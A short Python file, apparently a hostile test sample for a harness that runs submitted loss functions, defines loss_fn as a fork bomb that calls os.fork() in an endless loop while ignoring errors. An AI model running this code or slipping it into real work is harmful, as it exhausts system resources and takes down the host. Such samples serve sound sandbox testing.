# Hostile candidate: forks in a loop without end.
import contextlib
import os


def loss_fn(predictions, targets):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
